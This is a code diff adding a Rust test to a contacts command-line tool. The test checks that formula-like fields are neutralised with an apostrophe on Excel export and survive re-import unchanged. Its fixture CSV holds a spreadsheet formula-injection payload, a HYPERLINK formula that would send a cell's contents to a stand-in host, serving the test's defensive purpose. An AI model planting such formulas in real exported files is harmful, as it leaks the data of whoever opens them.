@@ -1265,3 +1265,42 @@ fn a_moved_data_folder_is_where_every_later_command_goes() {
     );
     assert_eq!(in_data(&["contacts", "export"]), before);
 }
+
+#[test]
+fn an_exported_contact_never_runs_as_a_formula_and_imports_back_unchanged() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("t.sqlite3");
+    let csv = dir.path().join("c.csv");
+    std::fs::write(
+        &csv,
+        "email;first_name;last_name;organisation;language\r\n\
+         x@example.be;\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\";'t Hooft;@SUM(1+1);nl\r\n",
+    )
+    .unwrap();
+    run_ok(&db, &["contacts", "import", csv.to_str().unwrap()]);
+    let exported = run_ok(&db, &["contacts", "export", "--excel"]);
+    assert!(exported.contains("'=HYPERLINK"), "{exported}");
+    assert!(exported.contains(";'@SUM(1+1);"), "{exported}");
+    assert!(exported.contains(";'t Hooft;"), "{exported}");
+    assert!(
+        !exported.contains(";=HYPERLINK") && !exported.contains(";@SUM"),
+        "{exported}"
+    );
+    // Back in: the same names, without the guard.
+    let again = dir.path().join("again.sqlite3");
+    let file = dir.path().join("export.csv");
+    std::fs::write(&file, &exported).unwrap();
+    run_ok(&again, &["contacts", "import", file.to_str().unwrap()]);
+    assert_eq!(run_ok(&again, &["contacts", "export", "--excel"]), exported);
+    let shown: serde_json::Value = serde_json::from_str(&run_ok(
+        &again,
+        &["contacts", "show", "x@example.be", "--json"],
+    ))
+    .unwrap();
+    assert_eq!(
+        shown["first_name"].as_str(),
+        Some("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")
+    );
+    assert_eq!(shown["organisation"].as_str(), Some("@SUM(1+1)"));
+    assert_eq!(shown["last_name"].as_str(), Some("'t Hooft"));
+}
